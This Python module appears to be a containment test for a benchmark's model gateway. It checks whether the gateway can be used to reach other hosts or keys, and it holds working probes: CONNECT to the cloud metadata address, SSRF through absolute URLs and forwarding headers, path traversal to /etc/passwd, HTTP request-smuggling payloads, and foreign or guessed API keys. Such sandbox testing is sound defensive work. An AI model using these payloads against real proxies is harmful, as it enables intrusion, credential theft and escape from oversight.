"""The model gateway used for something else than asking the model. Leaves the workspace as it is."""

from __future__ import annotations

import json
import os
import socket
import urllib.parse

import facts

_OTHER_PATHS = (
    "/v1/files",
    "/v1/organization/admin_api_keys",
    "/v1/../admin",
    "/v1/chat/completions/../../files",
    "/v1/%2e%2e/files",
    "/v1//files",
    "/v1/models/../files",
    "/v1/chat/completions?x=/v1/files",
    "/v1/batches",
    "/v1/messages/batches",
    "/../../../etc/passwd",
)


def _gateway() -> tuple[str, int]:
    address = urllib.parse.urlsplit(os.environ["OPENAI_BASE_URL"])
    assert address.hostname is not None and address.port is not None
    return address.hostname, address.port


def _exchange(request: bytes) -> tuple[int, bytes]:
    """Status and whole text of the answer; 0 when there is none."""
    with socket.create_connection(_gateway(), timeout=5) as client:
        client.sendall(request)
        client.settimeout(3)
        answer = b""
        try:
            while part := client.recv(65536):
                answer += part
        except OSError:
            pass
    words = answer.split(b" ", 2)
    return int(words[1]) if len(words) > 1 and words[1].isdigit() else 0, answer


def _ask(line: str, body: bytes = b"", **headers: str) -> tuple[int, bytes]:
    """A request with this cell's own key."""
    fields = {"Host": "127.0.0.1", "Authorization": f"Bearer {os.environ['OPENAI_API_KEY']}", "Connection": "close"}
    fields |= {name.replace("_", "-"): value for name, value in headers.items()}
    if body:
        fields |= {"Content-Type": "application/json", "Content-Length": str(len(body))}
    head = "".join(f"{name}: {value}\r\n" for name, value in fields.items())
    status, answer = _exchange(f"{line} HTTP/1.1\r\n{head}\r\n".encode("latin-1") + body)
    facts.keep_canaries(answer)
    facts.say("asked", detail=f"{line[:100]} -> {status}")
    return status, answer


def _call(text: str = "hello", **more: object) -> bytes:
    message = {"model": os.environ["BENCH_MODEL"], "messages": [{"role": "user", "content": text}], **more}
    return json.dumps(message).encode()


def model_call() -> None:
    """An honest call, to see that the way is open at all."""
    status, _ = _ask("POST /v1/chat/completions", _call())
    if status != 200:
        facts.void(f"the model does not answer: {status}")


def _target() -> str:
    host, port = facts.FACTS["listeners"]["tcp4"]
    return f"{host}:{port}"


def connect() -> None:
    """The method by which proxies open a tunnel."""
    for target in (_target(), "169.254.169.254:80"):
        status, _ = _ask(f"CONNECT {target}")
        if 200 <= status < 300:
            facts.reached(f"CONNECT {target} is accepted")


def absolute_address() -> None:
    """Requests that name another server in their first line."""
    for method, body in (("GET", b""), ("POST", _call())):
        for place in (f"http://{_target()}/v1/chat/completions", f"http://{_target()}/", f"//{_target()}/v1/models"):
            status, answer = _ask(f"{method} {place}", body)
            if 200 <= status < 300 and b"from-elsewhere" in answer:
                facts.reached(f"{method} {place} is fetched")


def other_host() -> None:
    """Headers by which servers and proxies are sent elsewhere."""
    target = _target()
    headers = {
        "Host": target,
        "X_Forwarded_Host": target,
        "Forwarded": f"host={target}",
        "X_Original_URL": f"http://{target}/",
        "Proxy_Authorization": "Basic eDp4",
        "X_Upstream": f"http://{target}",
        "api_base": f"http://{target}",
    }
    _ask("POST /v1/chat/completions", _call(), **headers)


def other_paths() -> None:
    """Paths of the provider that are no model calls, straight and in disguise."""
    for path in _OTHER_PATHS:
        status, answer = _ask(f"GET {path}")
        if status == 200 and b"bench-" not in answer:
            facts.reached(f"GET {path} is answered")
    _ask("POST /v1/files", _call())


def other_settings() -> None:
    """Fields of a call that would choose another server, another model, another key or a tool of the provider."""
    target = f"http://{_target()}/v1"
    for more in (
        {"api_base": target, "base_url": target, "api_key": "x"},
        {"model": "openai/gpt-4o"},
        {"model": "../../other"},
        {"extra_headers": {"Host": _target()}, "extra_body": {"model": "other"}},
        {"tools": [{"type": "web_search"}, {"type": "mcp", "server_url": target}], "web_search_options": {}},
        {"messages": [{"role": "user", "content": [{"type": "image_url", "image_url": {"url": f"{target}/x.png"}}]}]},
        {"stream": True, "stream_options": {"include_usage": True}, "metadata": {"url": target}},
    ):
        _ask("POST /v1/chat/completions", _call(**more))


def smuggling() -> None:
    """Two requests in one, by lengths that disagree and by line breaks in fields."""
    key = os.environ["OPENAI_API_KEY"]
    inner = f"GET http://{_target()}/ HTTP/1.1\r\nHost: {_target()}\r\nAuthorization: Bearer {key}\r\n\r\n"
    head = f"POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {key}\r\n"
    for request in (
        f"{head}Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{inner}",
        f"{head}Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n{inner}",
        f"{head}Content-Length: 0\r\nContent-Length: 5\r\n\r\nhello{inner}",
        f"{head}X-A: b\r\n\tc\r\nContent-Length: 0\r\n\r\n{inner}",
    ):
        _, answer = _exchange(request.encode())
        facts.keep_canaries(answer)
        if b"from-elsewhere" in answer:
            facts.reached("a smuggled request is fetched")


def foreign_keys() -> None:
    """Keys that are not this cell's: another cell's, none, and guesses."""
    guesses = ["", "x", "null", "*", "sk-ant-admin", os.environ["OPENAI_API_KEY"][:-1]]
    for key in filter(None, [facts.FACTS["foreign_key"], *guesses]):
        for header in ("Authorization", "x_api_key"):
            value = f"Bearer {key}" if header == "Authorization" else key
            status, _ = _ask("POST /v1/chat/completions", _call(), **{"Authorization": "none", header: value})
            if status == 200:
                facts.reached(f"a foreign key is accepted ({len(key)} characters)")


def key_of_the_provider() -> None:
    """Questions to which the provider answers with the key it was given, in answers, errors, headers and streams."""
    for text in ("echo-key", "error-with-key", "stream-key"):
        _ask("POST /v1/chat/completions", _call(text, stream=text == "stream-key"))
